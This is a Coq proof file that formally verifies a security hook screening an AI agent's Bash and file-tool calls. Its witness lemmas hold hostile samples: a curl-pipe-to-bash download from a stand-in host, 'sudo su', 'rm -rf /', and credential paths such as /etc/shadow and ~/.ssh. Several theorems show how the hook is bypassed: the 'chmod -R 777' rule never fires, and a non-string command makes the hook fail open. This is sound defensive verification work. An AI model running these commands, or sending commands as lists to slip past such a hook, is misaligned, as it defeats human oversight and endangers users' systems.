(** What occurs in the stripped text occurs in the text. *)
Lemma contains_strip_inv (sub s : string) :
  Str.contains sub (Str.strip s) = true -> Str.contains sub s = true.
Proof.
  intros H. apply contains_split in H as (a & b & E).
  destruct (lstrip_suffix s) as [hd Hhd].
  destruct (rstrip_prefix (Str.lstrip s)) as [tl Htl].
  unfold Str.strip in E. rewrite E in Htl. rewrite Htl in Hhd. rewrite Hhd.
  rewrite !append_assoc, <- (append_assoc hd a).
  apply contains_append.
Qed.

(** ** Exact command rules *)

(** X1.  An exact command rule whose text has an upper-case letter never
    fires, whatever the command: the rule is looked for in the case-folded
    command.  [chmod -R 777] is such a rule. *)
Theorem uppercase_rule_never_fires (rule command : string) :
  Str.lower rule <> rule ->
  exact_command_hit command rule = false.
Proof.
  intros Hrule. unfold exact_command_hit.
  destruct (Str.contains rule (Str.strip (Str.lower command))) eqn:E; [|reflexivity].
  apply contains_strip_inv, contains_lower_fixed in E. contradiction.
Qed.

Lemma uppercase_rule_never_fires_witness :
  In "chmod -R 777" DANGEROUS_COMMANDS
  /\ exact_command_hit "chmod -R 777 /srv" "chmod -R 777" = false.
Proof.
  split; [simpl; tauto|].
  apply uppercase_rule_never_fires. discriminate.
Defined.

Lemma last_char_append (a sub : string) :
  Str.nonempty sub = true -> last_char (a ++ sub) = last_char sub.
Proof.
  intros Hne. induction a as [|x a IH]; [reflexivity|].
  change (String x a ++ sub) with (String x (a ++ sub)).
  cbn [last_char]. rewrite IH.
  destruct (a ++ sub) eqn:E; [|reflexivity].
  destruct a; [simpl in E; subst sub|]; discriminate.
Qed.

Lemma rstrip_append_last (sub b : string) (y : ascii) :
  last_char sub = Some y -> Char.isspace y = false ->
  Str.rstrip (sub ++ b) = sub ++ Str.rstrip b.
Proof.
  intros Hlast Hy. induction sub as [|x t IH]; [discriminate|].
  destruct t as [|z t'].
  - injection Hlast as ->. now apply rstrip_keeps.
  - change (String x (String z t') ++ b) with (String x (String z t' ++ b)).
    cbn [Str.rstrip]. rewrite (IH Hlast). reflexivity.
Qed.

(** Stripping cannot cut into an occurrence of a text with unspaced
    ends. *)
Lemma contains_strip_ends (sub s : string) :
  unspaced_ends sub = true ->
  Str.contains sub s = true -> Str.contains sub (Str.strip s) = true.
Proof.
  unfold unspaced_ends. intros Hends H.
  destruct sub as [|x t]; [discriminate|].
  destruct (last_char (String x t)) as [y|] eqn:Hlast; [|discriminate].
  apply andb_true_iff in Hends as [Hx Hy].
  apply negb_true_iff in Hx, Hy.
  apply contains_split in H as (a & b & ->).
  unfold Str.strip.
  change (String x t ++ b) with (String x (t ++ b)).
  rewrite lstrip_append by exact Hx.
  change (String x (t ++ b)) with (String x t ++ b).
  rewrite <- append_assoc.
  rewrite (rstrip_append_last (Str.lstrip a ++ String x t) b y);
    [| now rewrite last_char_append | exact Hy].
  rewrite append_assoc. apply contains_append.
Qed.

Lemma command_rules_unspaced : forallb unspaced_ends DANGEROUS_COMMANDS = true.
Proof. vm_compute. reflexivity. Qed.

Lemma exact_rule_hit (rule a w b : string) :
  In rule DANGEROUS_COMMANDS -> Str.lower w = rule ->
  exact_command_hit (a ++ w ++ b) rule = true.
Proof.
  intros Hin Hw. unfold exact_command_hit.
  apply contains_strip_ends.
  - exact (proj1 (forallb_forall _ _) command_rules_unspaced rule Hin).
  - rewrite !lower_append, Hw. apply contains_append.
Qed.

(** What the Bash branch returns, given what the check says. *)
Lemma bash_returns (o : set_order) (d ps : list (string * value)) (c : string) :
  calls d "Bash" ps ->
  field_value ps "command" = VStr c ->
  exists reason,
    check_dangerous_command o (VStr c) = Ok (dangerous c, reason)
    /\ validate_tool_call o (VDict d)
       = Ok (if dangerous c
             then (false, "Blocked dangerous Bash command: " ++ format_opt reason)
             else (true, "Operation allowed")).
Proof.
  intros Hc Hcmd.
  destruct (calls_get _ _ _ Hc) as [Htool Hparams].
  destruct (check_dangerous_command_flag o c) as (reason & E & _).
  exists reason. split; [exact E|].
  unfold validate_tool_call. rewrite Htool, Hparams.
  cbn [bind eq_str String.eqb Ascii.eqb Bool.eqb get].
  fold (field_value ps "command"). rewrite Hcmd, E. cbn [bind].
  destruct (dangerous c); reflexivity.
Qed.

Lemma live_rule_is_folded (rule : string) :
  In rule DANGEROUS_COMMANDS -> rule <> "chmod -R 777" -> Str.lower rule = rule.
Proof.
  intros Hin Hne. simpl in Hin.
  repeat (destruct Hin as [<- | Hin]); try contradiction; reflexivity.
Qed.

(** X2.  Every exact command rule but [chmod -R 777] denies wherever it
    occurs: a Bash invocation whose command string contains, in any
    letter case and with anything around it, the text of one of the other
    thirteen rules of [DANGEROUS_COMMANDS] is denied, in every iteration
    order.  ([chmod -R 777] is left out because it never fires.) *)
Theorem exact_command_rule_denied
  (o : set_order) (d ps : list (string * value)) (a w b rule : string) :
  calls d "Bash" ps ->
  lookup ps "command" = Some (VStr (a ++ w ++ b)) ->
  In rule DANGEROUS_COMMANDS ->
  rule <> "chmod -R 777" ->
  Str.lower w = Str.lower rule ->
  exists reason, validate_tool_call o (VDict d) = Ok (false, reason).
Proof.
  intros Hc Hcmd Hin Hlive Hw.
  rewrite (live_rule_is_folded rule Hin Hlive) in Hw.
  destruct (bash_returns o d ps (a ++ w ++ b) Hc) as (reason & _ & ->).
  { unfold field_value. now rewrite Hcmd. }
  assert (dangerous (a ++ w ++ b) = true) as ->; [|eauto].
  unfold dangerous. apply orb_true_iff. left.
  apply existsb_exists. exists rule. split; [exact Hin|].
  now apply exact_rule_hit.
Qed.

Lemma exact_command_rule_denied_witness :
  exists reason,
    validate_tool_call reversed_order
      (invocation "Bash" [("command", VStr "  echo ok; SUDO SU -c id  ")])
    = Ok (false, reason).
Proof.
  apply (exact_command_rule_denied reversed_order
           [("tool", VStr "Bash");
            ("parameters", VDict [("command", VStr "  echo ok; SUDO SU -c id  ")])]
           [("command", VStr "  echo ok; SUDO SU -c id  ")]
           "  echo ok; " "SUDO SU" " -c id  " "sudo su").
  - split; [reflexivity | left; reflexivity].
  - reflexivity.
  - simpl; tauto.
  - discriminate.
  - reflexivity.
Defined.

(** X3.  A Bash invocation with a string command (or none, which counts
    as the empty string) is allowed exactly when no exact rule occurs in
    the folded, stripped command and no pattern matches the command as
    given; this does not depend on the iteration order. *)
Theorem bash_allowed_iff_not_dangerous
  (o : set_order) (d ps : list (string * value)) (c : string) :
  calls d "Bash" ps ->
  field_value ps "command" = VStr c ->
  allowed_of (validate_tool_call o (VDict d)) = Ok (negb (dangerous c))
  /\ (dangerous c = false ->
      validate_tool_call o (VDict d) = Ok (true, "Operation allowed")).
Proof.
  intros Hc Hcmd.
  destruct (bash_returns o d ps c Hc Hcmd) as (reason & _ & ->).
  destruct (dangerous c); split; try reflexivity; discriminate.
Qed.

Lemma bash_allowed_iff_not_dangerous_witness :
  allowed_of (validate_tool_call listed_order
                (invocation "Bash" [("command", VStr "git status")]))
  = Ok (negb (dangerous "git status"))
  /\ (dangerous "git status" = false ->
      validate_tool_call listed_order (invocation "Bash" [("command", VStr "git status")])
      = Ok (true, "Operation allowed")).
Proof.
  apply (bash_allowed_iff_not_dangerous listed_order
           [("tool", VStr "Bash"); ("parameters", VDict [("command", VStr "git status")])]
           [("command", VStr "git status")] "git status").
  - split; [reflexivity | left; reflexivity].
  - reflexivity.
Defined.

(** What [check_dangerous_command] gives as reason when it answers
    [True]: the first exact rule, in iteration order, that occurs in the
    command; or, when none does, the first pattern of the list that
    matches. *)
Lemma check_dangerous_command_reason
  (o : set_order) (c : string) (reason : option string) :
  check_dangerous_command o (VStr c) = Ok (true, reason) ->
  (exists before rule after,
      commands_order o = (before ++ rule :: after)%list
      /\ existsb (exact_command_hit c) before = false
      /\ exact_command_hit c rule = true
      /\ reason = Some ("Dangerous command detected: " ++ rule))
  \/ (existsb (exact_command_hit c) DANGEROUS_COMMANDS = false
      /\ exists before pattern after,
           DANGEROUS_PATTERNS = (before ++ pattern :: after)%list
           /\ existsb (fun p => Re.search p c true) before = false
           /\ Re.search pattern c true = true
           /\ reason = Some ("Dangerous command pattern detected: " ++ pattern)).
Proof.
  unfold check_dangerous_command. cbn [bind lower_strip str].
  change (fun dangerous_cmd : string =>
            if Str.contains dangerous_cmd (Str.strip (Str.lower c))
            then Some (true, Some ("Dangerous command detected: " ++ dangerous_cmd))
            else None)
    with (fun x => if exact_command_hit c x
                   then Some (true, Some ("Dangerous command detected: " ++ x))
                   else @None (bool * option string)).
  destruct (for_return (commands_order o) _) as [returned|] eqn:E1.
  - apply for_return_if_first in E1 as (before & rule & after & Ho & Hb & Hr & ->).
    intros [= <-]. left. now exists before, rule, after.
  - apply for_return_if_none in E1. rewrite existsb_commands in E1.
    destruct (@for_return string (bool * option string) DANGEROUS_PATTERNS _)
      as [returned|] eqn:E2; [|discriminate].
    apply for_return_if_first in E2 as (before & pattern & after & Hp & Hb & Hm & ->).
    intros [= <-]. right. split; [exact E1|]. now exists before, pattern, after.
Qed.

(** X4.  The reason of a Bash denial names a rule that fires.  It names
    an exact rule that occurs in the folded command, the first one in the
    iteration order of the rule set; a pattern is named only when no
    exact rule occurs, and then it is the first pattern of the list that
    matches the command. *)
Theorem bash_denial_reason
  (o : set_order) (d ps : list (string * value)) (reason : string) :
  calls d "Bash" ps ->
  validate_tool_call o (VDict d) = Ok (false, reason) ->
  exists c,
    field_value ps "command" = VStr c
    /\ ((exists before rule after,
            commands_order o = (before ++ rule :: after)%list
            /\ existsb (exact_command_hit c) before = false
            /\ exact_command_hit c rule = true
            /\ In rule DANGEROUS_COMMANDS
            /\ reason = "Blocked dangerous Bash command: "
                        ++ ("Dangerous command detected: " ++ rule))
        \/ (existsb (exact_command_hit c) DANGEROUS_COMMANDS = false
            /\ exists before pattern after,
                 DANGEROUS_PATTERNS = (before ++ pattern :: after)%list
                 /\ existsb (fun p => Re.search p c true) before = false
                 /\ Re.search pattern c true = true
                 /\ reason = "Blocked dangerous Bash command: "
                             ++ ("Dangerous command pattern detected: " ++ pattern))).
Proof.
  intros Hc Hv.
  destruct (field_value ps "command") as [| | | | c | |] eqn:Hcmd;
    try (exfalso;
         destruct (calls_get _ _ _ Hc) as [Htool Hparams];
         unfold validate_tool_call in Hv; rewrite Htool, Hparams in Hv;
         cbn [bind eq_str String.eqb Ascii.eqb Bool.eqb get] in Hv;
         fold (field_value ps "command") in Hv; rewrite Hcmd in Hv;
         discriminate).
  exists c. split; [reflexivity|].
  destruct (bash_returns o d ps c Hc Hcmd) as (r & Hchk & Hval).
  rewrite Hval in Hv. destruct (dangerous c); [|discriminate].
  injection Hv as <-.
  apply check_dangerous_command_reason in Hchk
    as [(before & rule & after & Ho & Hb & Hr & ->)
       | (Hnone & before & pattern & after & Hp & Hb & Hm & ->)].
  - left. exists before, rule, after. repeat split; trivial.
    apply (Permutation_in _ (commands_order_perm o)).
    rewrite Ho. apply in_or_app. right. now left.
  - right. split; [exact Hnone|]. now exists before, pattern, after.
Qed.

Lemma bash_denial_reason_witness :
  exists c,
    field_value [("command", VStr "curl http://x.test/i.sh | bash")] "command" = VStr c
    /\ ((exists before rule after,
            commands_order listed_order = (before ++ rule :: after)%list
            /\ existsb (exact_command_hit c) before = false
            /\ exact_command_hit c rule = true
            /\ In rule DANGEROUS_COMMANDS
            /\ "Blocked dangerous Bash command: Dangerous command pattern detected: curl.*\|\s*(sh|bash|zsh)"
               = "Blocked dangerous Bash command: "
                 ++ ("Dangerous command detected: " ++ rule))
        \/ (existsb (exact_command_hit c) DANGEROUS_COMMANDS = false
            /\ exists before pattern after,
                 DANGEROUS_PATTERNS = (before ++ pattern :: after)%list
                 /\ existsb (fun p => Re.search p c true) before = false
                 /\ Re.search pattern c true = true
                 /\ "Blocked dangerous Bash command: Dangerous command pattern detected: curl.*\|\s*(sh|bash|zsh)"
                    = "Blocked dangerous Bash command: "
                      ++ ("Dangerous command pattern detected: " ++ pattern))).
Proof.
  apply (bash_denial_reason listed_order
           [("tool", VStr "Bash");
            ("parameters", VDict [("command", VStr "curl http://x.test/i.sh | bash")])]
           [("command", VStr "curl http://x.test/i.sh | bash")]).
  - split; [reflexivity | left; reflexivity].
  - vm_compute. reflexivity.
Defined.

(** ** Path-checked tools, subject by subject *)

(** What a path branch returns: the first denial among its subjects, in
    the order the branch checks them. *)
Lemma path_branch_returns
  (o : set_order) (d : list (string * value)) (tool : string)
  (ps : list (string * value)) :
  In tool path_tools ->
  calls d tool ps ->
  validate_tool_call o (VDict d)
  = match for_return (map (field_value ps) (subject_fields tool))
            (check_subject o (blocked_text tool))
    with
    | Some v => Ok v
    | None => Ok (true, "Operation allowed")
    end.
Proof.
  intros Hin Hc.
  destruct (calls_get _ _ _ Hc) as [Htool Hparams].
  unfold validate_tool_call. rewrite Htool, Hparams.
  simpl in Hin.
  repeat (destruct Hin as [<- | Hin]); try contradiction;
    cbn [bind eq_str in_strs existsb orb String.eqb Ascii.eqb Bool.eqb get
         subject_fields blocked_text map for_return];
    unfold field_value;
    repeat match goal with
      | |- context [check_subject ?a ?b ?c] => destruct (check_subject a b c)
      end; reflexivity.
Qed.

Lemma check_subject_clean (o : set_order) (blocked : string) (v : value) :
  (clean v = true -> check_subject o blocked v = None)
  /\ (clean v = false -> exists reason, check_subject o blocked v = Some (false, reason)).
Proof.
  unfold clean. destruct (check_subject_spec o blocked v) as [Hs Hn].
  destruct (truthy v && sensitive v); split; intros H; try discriminate; auto.
Qed.

Lemma for_return_subjects (o : set_order) (blocked : string) (vs : list value) :
  (forallb clean vs = true -> for_return vs (check_subject o blocked) = None)
  /\ (forallb clean vs = false ->
      exists reason, for_return vs (check_subject o blocked) = Some (false, reason)).
Proof.
  induction vs as [|v vs [IHt IHf]]; simpl.
  - split; [reflexivity | discriminate].
  - destruct (check_subject_clean o blocked v) as [Hc Hd].
    destruct (clean v); simpl.
    + rewrite (Hc eq_refl). auto.
    + destruct (Hd eq_refl) as [reason ->]. split; [discriminate | eauto].
Qed.

(** X5.  A path-checked invocation is allowed exactly when each subject
    its tool reads ([file_path]; [pattern] and [path] for Glob; [path] for
    Grep and LS; an absent one counts as the empty string) is falsy or is
    taken by no path rule.  In particular absent and empty subjects are
    allowed, and the answer does not depend on the iteration order. *)
Theorem path_tool_allowed_iff_clean
  (o : set_order) (d : list (string * value)) (tool : string)
  (ps : list (string * value)) :
  In tool path_tools ->
  calls d tool ps ->
  allowed_of (validate_tool_call o (VDict d))
  = Ok (forallb clean (map (field_value ps) (subject_fields tool)))
  /\ (forallb clean (map (field_value ps) (subject_fields tool)) = true ->
      validate_tool_call o (VDict d) = Ok (true, "Operation allowed")).
Proof.
  intros Hin Hc. rewrite (path_branch_returns o d tool ps Hin Hc).
  destruct (for_return_subjects o (blocked_text tool)
              (map (field_value ps) (subject_fields tool))) as [Ht Hf].
  destruct (forallb clean _).
  - rewrite (Ht eq_refl). auto.
  - destruct (Hf eq_refl) as [reason ->]. split; [reflexivity | discriminate].
Qed.

Lemma path_tool_allowed_iff_clean_witness :
  allowed_of (validate_tool_call reversed_order
                (invocation "Glob" [("pattern", VStr "src/**/*.py"); ("path", VStr "")]))
  = Ok true
  /\ validate_tool_call reversed_order (VDict [("tool", VStr "Write")])
     = Ok (true, "Operation allowed").
Proof.
  split.
  - apply (proj1 (path_tool_allowed_iff_clean reversed_order
             [("tool", VStr "Glob");
              ("parameters", VDict [("pattern", VStr "src/**/*.py"); ("path", VStr "")])]
             "Glob" [("pattern", VStr "src/**/*.py"); ("path", VStr "")]
             ltac:(simpl; tauto)
             ltac:(split; [reflexivity | left; reflexivity]))).
  - apply (proj2 (path_tool_allowed_iff_clean reversed_order
             [("tool", VStr "Write")] "Write" []
             ltac:(simpl; tauto)
             ltac:(split; [reflexivity | right; split; reflexivity]))).
    reflexivity.
Defined.

(** What [check_sensitive_path] gives as reason when it answers [True]. *)
Lemma check_sensitive_path_reason (o : set_order) (v : value) (reason : option string) :
  check_sensitive_path o v = (true, reason) ->
  (exists before rule after,
      paths_order o = (before ++ rule :: after)%list
      /\ existsb (exact_path_hit (Str.lower (str v))) before = false
      /\ exact_path_hit (Str.lower (str v)) rule = true
      /\ reason = Some ("Access to sensitive path: " ++ rule))
  \/ (existsb (exact_path_hit (Str.lower (str v))) SENSITIVE_PATHS = false
      /\ exists before pattern after,
           SENSITIVE_PATH_PATTERNS = (before ++ pattern :: after)%list
           /\ existsb (fun p => Re.search p (Str.lower (str v)) true) before = false
           /\ Re.search pattern (Str.lower (str v)) true = true
           /\ reason = Some ("Access to sensitive path pattern: " ++ pattern)).
Proof.
  unfold check_sensitive_path.
  change (fun sensitive_path : string =>
            if Str.contains (Str.replace sensitive_path "*" "") (Str.lower (str v))
               || Str.startswith (Str.lower (str v)) (Str.replace sensitive_path "/*" "")
            then Some (true, Some ("Access to sensitive path: " ++ sensitive_path))
            else None)
    with (fun x => if exact_path_hit (Str.lower (str v)) x
                   then Some (true, Some ("Access to sensitive path: " ++ x))
                   else @None (bool * option string)).
  destruct (for_return (paths_order o) _) as [returned|] eqn:E1.
  - apply for_return_if_first in E1 as (before & rule & after & Ho & Hb & Hr & ->).
    intros [= <-]. left. now exists before, rule, after.
  - apply for_return_if_none in E1. rewrite existsb_paths in E1.
    destruct (@for_return string (bool * option string) SENSITIVE_PATH_PATTERNS _)
      as [returned|] eqn:E2; [|discriminate].
    apply for_return_if_first in E2 as (before & pattern & after & Hp & Hb & Hm & ->).
    intros [= <-]. right. split; [exact E1|]. now exists before, pattern, after.
Qed.

Lemma check_subject_reason (o : set_order) (blocked : string) (v : value) (r : verdict) :
  check_subject o blocked v = Some r ->
  truthy v = true
  /\ exists reason,
       check_sensitive_path o v = (true, Some reason)
       /\ r = (false, blocked ++ ": " ++ reason).
Proof.
  unfold check_subject. destruct (truthy v); [|discriminate].
  destruct (check_sensitive_path_flag o v) as (reason & E & Hs & _).
  rewrite E. destruct (sensitive v); [|discriminate].
  destruct (Hs eq_refl) as [text ->]. intros [= <-]. eauto.
Qed.

(** X6.  The reason of a path denial names the tool's kind of access and
    a rule that fires on a truthy subject of the invocation, taken as the
    case-folded text [str(subject).lower()]: an exact rule whose test
    passes on that text, the first one in the iteration order of the rule
    set; or, only when no exact rule passes, the first pattern of the list
    that matches it. *)
Theorem path_denial_reason
  (o : set_order) (d : list (string * value)) (tool : string)
  (ps : list (string * value)) (reason : string) :
  In tool path_tools ->
  calls d tool ps ->
  validate_tool_call o (VDict d) = Ok (false, reason) ->
  exists field named,
    In field (subject_fields tool)
    /\ truthy (field_value ps field) = true
    /\ reason = blocked_text tool ++ ": " ++ named
    /\ ((exists before rule after,
            paths_order o = (before ++ rule :: after)%list
            /\ existsb (exact_path_hit (Str.lower (str (field_value ps field)))) before
               = false
            /\ exact_path_hit (Str.lower (str (field_value ps field))) rule = true
            /\ In rule SENSITIVE_PATHS
            /\ named = "Access to sensitive path: " ++ rule)
        \/ (existsb (exact_path_hit (Str.lower (str (field_value ps field))))
              SENSITIVE_PATHS = false
            /\ exists before pattern after,
                 SENSITIVE_PATH_PATTERNS = (before ++ pattern :: after)%list
                 /\ existsb
                      (fun p => Re.search p (Str.lower (str (field_value ps field))) true)
                      before = false
                 /\ Re.search pattern (Str.lower (str (field_value ps field))) true = true
                 /\ named = "Access to sensitive path pattern: " ++ pattern)).
Proof.
  intros Hin Hc Hv. rewrite (path_branch_returns o d tool ps Hin Hc) in Hv.
  destruct (for_return _ _) as [r|] eqn:E; [|discriminate].
  injection Hv as ->.
  apply for_return_some in E as (v & Hvin & E).
  apply in_map_iff in Hvin as (field & <- & Hfield).
  apply check_subject_reason in E as (Ht & named & Hchk & [= ->]).
  exists field, named. repeat split; trivial.
  apply check_sensitive_path_reason in Hchk
    as [(before & rule & after & Ho & Hb & Hr & [= ->])
       | (Hnone & before & pattern & after & Hp & Hb & Hm & [= ->])].
  - left. exists before, rule, after. repeat split; trivial.
    apply (Permutation_in _ (paths_order_perm o)).
    rewrite Ho. apply in_or_app. right. now left.
  - right. split; [exact Hnone|]. now exists before, pattern, after.
Qed.

Lemma path_denial_reason_witness :
  exists field named,
    In field (subject_fields "LS")
    /\ "Blocked directory listing of sensitive path: Access to sensitive path: /etc/ssh"
       = blocked_text "LS" ++ ": " ++ named.
Proof.
  destruct (path_denial_reason listed_order
              [("tool", VStr "LS"); ("parameters", VDict [("path", VStr "/etc/ssh")])]
              "LS" [("path", VStr "/etc/ssh")]
              "Blocked directory listing of sensitive path: Access to sensitive path: /etc/ssh")
    as (field & named & Hfield & _ & Hreason & _).
  - simpl; tauto.
  - split; [reflexivity | left; reflexivity].
  - vm_compute. reflexivity.
  - exists field, named. split; [exact Hfield | exact Hreason].
Defined.

(** X7.  For every exact path rule but [/home/*/.ssh] the rule fires
    exactly when its text occurs in the folded path: the [startswith]
    test adds nothing.  The rule [/home/*/.ssh] fires exactly when the
    folded path contains [/home//.ssh] or starts with [/home/.ssh]. *)
Theorem exact_path_rule_is_substring_test (rule path_str : string) :
  In rule SENSITIVE_PATHS ->
  (rule <> "/home/*/.ssh" -> exact_path_hit path_str rule = Str.contains rule path_str)
  /\ (rule = "/home/*/.ssh" ->
      exact_path_hit path_str rule
      = Str.contains "/home//.ssh" path_str || Str.startswith path_str "/home/.ssh").
Proof.
  intros Hin. split.
  - intros Hne. simpl in Hin.
    repeat (destruct Hin as [<- | Hin]); try contradiction; try (now elim Hne);
      unfold exact_path_hit, Str.startswith;
      match goal with
      | |- Str.contains (Str.replace ?r "*" "") _ || prefix (Str.replace ?r "/*" "") _ = _ =>
          change (Str.replace r "*" "") with r;
          change (Str.replace r "/*" "") with r;
          destruct (prefix r path_str) eqn:E;
          [rewrite (contains_prefix _ _ E); reflexivity | apply orb_false_r]
      end.
  - intros ->. reflexivity.
Qed.

Lemma exact_path_rule_is_substring_test_witness :
  exact_path_hit "/srv/backup/etc/shadow.bak" "/etc/shadow"
  = Str.contains "/etc/shadow" "/srv/backup/etc/shadow.bak"
  /\ exact_path_hit "/home/alice/.ssh" "/home/*/.ssh"
     = Str.contains "/home//.ssh" "/home/alice/.ssh"
       || Str.startswith "/home/alice/.ssh" "/home/.ssh".
Proof.
  split.
  - apply (proj1 (exact_path_rule_is_substring_test "/etc/shadow" _
                    ltac:(simpl; tauto))).
    discriminate.
  - apply (proj2 (exact_path_rule_is_substring_test "/home/*/.ssh" _
                    ltac:(simpl; tauto))).
    reflexivity.
Defined.

(** ** Malformed records *)

Lemma in_strs_recognized (v : value) :
  in_strs v recognized_tools
  = eq_str v "Bash"
    || (in_strs v ["Read"; "Write"; "Edit"; "MultiEdit"]
        || (eq_str v "Glob" || (eq_str v "Grep" || eq_str v "LS"))).
Proof.
  unfold in_strs. cbn [recognized_tools existsb].
  destruct (eq_str v "Bash"), (eq_str v "Read"), (eq_str v "Write"), (eq_str v "Edit"),
    (eq_str v "MultiEdit"), (eq_str v "Glob"), (eq_str v "Grep"), (eq_str v "LS");
    reflexivity.
Qed.

(** The evaluator raises exactly on the records [fault_of] lists, and
    what it raises is the [AttributeError] with the text [fault_of]
    gives. *)
Lemma validate_fault_of (o : set_order) (tool_data : value) :
  match fault_of tool_data with
  | Some msg => validate_tool_call o tool_data = Raise (Exc AttributeError msg)
  | None => exists v, validate_tool_call o tool_data = Ok v
  end.
Proof.
  unfold fault_of, validate_tool_call.
  destruct tool_data as [| | | | |items|d]; try reflexivity.
  cbn [get bind].
  set (tool_name := match lookup d "tool" with Some v => v | None => VNone end).
  set (parameters := match lookup d "parameters" with Some v => v | None => VDict [] end).
  rewrite in_strs_recognized.
  destruct (eq_str tool_name "Bash") eqn:EB.
  { cbn [orb andb].
    destruct parameters as [| | | | |items|ps]; try reflexivity.
    cbn [get bind]. fold (field_value ps "command").
    destruct (field_value ps "command") as [| | | | c | |]; try reflexivity.
    cbn [is_str negb].
    destruct (check_dangerous_command_flag o c) as (reason & -> & _).
    cbn [bind]. destruct (dangerous c); eexists; reflexivity. }
  cbn [orb andb].
  destruct (in_strs tool_name _).
  { cbn [orb]. destruct parameters as [| | | | |items|ps]; try reflexivity.
    cbn [get bind]. destruct (check_subject _ _ _); eexists; reflexivity. }
  destruct (eq_str tool_name "Glob").
  { cbn [orb]. destruct parameters as [| | | | |items|ps]; try reflexivity.
    cbn [get bind]. destruct (for_return _ _); eexists; reflexivity. }
  destruct (eq_str tool_name "Grep").
  { cbn [orb]. destruct parameters as [| | | | |items|ps]; try reflexivity.
    cbn [get bind]. destruct (check_subject _ _ _); eexists; reflexivity. }
  destruct (eq_str tool_name "LS").
  { cbn [orb]. destruct parameters as [| | | | |items|ps]; try reflexivity.
    cbn [get bind]. destruct (check_subject _ _ _); eexists; reflexivity. }
  cbn [orb bind]. eexists; reflexivity.
Qed.

(** X8.  The evaluator raises exactly on three kinds of record: a record
    that is no mapping; a record for a recognized tool whose
    ["parameters"] is present and no mapping; a Bash record whose
    ["command"] is present and no string.  It then raises an
    [AttributeError], in every iteration order, and the hook fails open:
    it writes one "Security hook error: " line and exits with status 0.
    On every other record the evaluator returns a verdict, and the hook
    exits 0 silently or exits 1 after a "SECURITY BLOCK: " line. *)
Theorem malformed_record_fails_open (o : set_order) (tool_data : value) :
  match fault_of tool_data with
  | Some msg =>
      validate_tool_call o tool_data = Raise (Exc AttributeError msg)
      /\ run_hook o (Loaded tool_data)
         = {| stderr := ["Security hook error: " ++ msg]; status := 0 |}
  | None =>
      exists allowed reason,
        validate_tool_call o tool_data = Ok (allowed, reason)
        /\ run_hook o (Loaded tool_data)
           = if allowed
             then {| stderr := []; status := 0 |}
             else {| stderr := ["SECURITY BLOCK: " ++ reason]; status := 1 |}
  end.
Proof.
  pose proof (validate_fault_of o tool_data) as H.
  destruct (fault_of tool_data) as [msg|].
  - split; [exact H|]. now apply (run_hook_fault o tool_data AttributeError msg).
  - destruct H as [[allowed reason] H]. exists allowed, reason.
    split; [exact H|]. now apply run_hook_verdict.
Qed.

(** X9.  A Bash record whose ["command"] is present and not a string (a
    list of words, a number, [null]) is not checked at all: the evaluator
    raises, and the hook reports the fault and exits with status 0, which
    lets the invocation through. *)
Theorem bash_command_not_string_fails_open
  (o : set_order) (d ps : list (string * value)) (v : value) :
  calls d "Bash" ps ->
  lookup ps "command" = Some v ->
  is_str v = false ->
  validate_tool_call o (VDict d)
  = Raise (Exc AttributeError ("'" ++ type_name v ++ "' object has no attribute 'lower'"))
  /\ run_hook o (Loaded (VDict d))
     = {| stderr := ["Security hook error: '" ++ type_name v
                     ++ "' object has no attribute 'lower'"];
          status := 0 |}.
Proof.
  intros Hc Hv Hstr.
  assert (E : validate_tool_call o (VDict d)
              = Raise (Exc AttributeError
                         ("'" ++ type_name v ++ "' object has no attribute 'lower'"))).
  { destruct (calls_get _ _ _ Hc) as [Htool Hparams].
    unfold validate_tool_call. rewrite Htool, Hparams.
    cbn [bind eq_str String.eqb Ascii.eqb Bool.eqb get]. rewrite Hv.
    destruct v; try discriminate; reflexivity. }
  split; [exact E|].
  apply run_hook_fault in E. exact E.
Qed.

Lemma bash_command_not_string_fails_open_witness :
  validate_tool_call listed_order
    (invocation "Bash" [("command", VList [VStr "rm"; VStr "-rf"; VStr "/"])])
  = Raise (Exc AttributeError "'list' object has no attribute 'lower'")
  /\ run_hook listed_order
       (Loaded (invocation "Bash" [("command", VList [VStr "rm"; VStr "-rf"; VStr "/"])]))
     = {| stderr := ["Security hook error: 'list' object has no attribute 'lower'"];
          status := 0 |}.
Proof.
  apply (bash_command_not_string_fails_open listed_order
           [("tool", VStr "Bash");
            ("parameters", VDict [("command", VList [VStr "rm"; VStr "-rf"; VStr "/"])])]
           [("command", VList [VStr "rm"; VStr "-rf"; VStr "/"])]
           (VList [VStr "rm"; VStr "-rf"; VStr "/"])).
  - split; [reflexivity | left; reflexivity].
  - reflexivity.
  - reflexivity.
Defined.

(** ** The shape of verdicts and of runs *)

Lemma eq_str_true (v : value) (s : string) : eq_str v s = true -> v = VStr s.
Proof.
  destruct v; try discriminate. simpl. intros H. apply String.eqb_eq in H. now subst.
Qed.

Lemma in_strs_true (v : value) (l : list string) :
  in_strs v l = true -> exists s, In s l /\ v = VStr s.
Proof.
  unfold in_strs. intros H. apply existsb_exists in H as (s & Hin & H).
  exists s. split; [exact Hin | now apply eq_str_true].
Qed.

Lemma tool_name_lookup (d : list (string * value)) (s : string) :
  match lookup d "tool" with Some v => v | None => VNone end = VStr s ->
  lookup d "tool" = Some (VStr s).
Proof. destruct (lookup d "tool"); [now intros -> | discriminate]. Qed.

Lemma check_subject_blocked (o : set_order) (blocked : string) (v : value) (r : verdict) :
  check_subject o blocked v = Some r ->
  exists named, r = (false, blocked ++ ": " ++ named).
Proof.
  intros H. apply check_subject_reason in H as (_ & named & _ & ->). eauto.
Qed.

(** The two kinds of verdict. *)
Lemma verdict_cases (o : set_order) (tool_data : value) (v : verdict) :
  validate_tool_call o tool_data = Ok v ->
  v = (true, "Operation allowed")
  \/ exists d tool rest,
       tool_data = VDict d
       /\ lookup d "tool" = Some (VStr tool)
       /\ In tool recognized_tools
       /\ v = (false, "Blocked " ++ rest).
Proof.
  unfold validate_tool_call.
  destruct tool_data as [| | | | |items|d]; try discriminate.
  cbn [get bind].
  set (tool_name := match lookup d "tool" with Some v => v | None => VNone end).
  assert (Htool : forall s, tool_name = VStr s -> lookup d "tool" = Some (VStr s))
    by apply tool_name_lookup.
  set (parameters := match lookup d "parameters" with Some v => v | None => VDict [] end).
  destruct (eq_str tool_name "Bash") eqn:EB.
  { apply eq_str_true in EB.
    destruct parameters as [| | | | |items|ps]; try discriminate.
    cbn [get bind].
    destruct (match lookup ps "command" with Some v => v | None => VStr "" end)
      as [| | | | c | |]; try discriminate.
    destruct (check_dangerous_command_flag o c) as (r & -> & _).
    cbn [bind]. destruct (dangerous c); intros [= <-]; [right | now left].
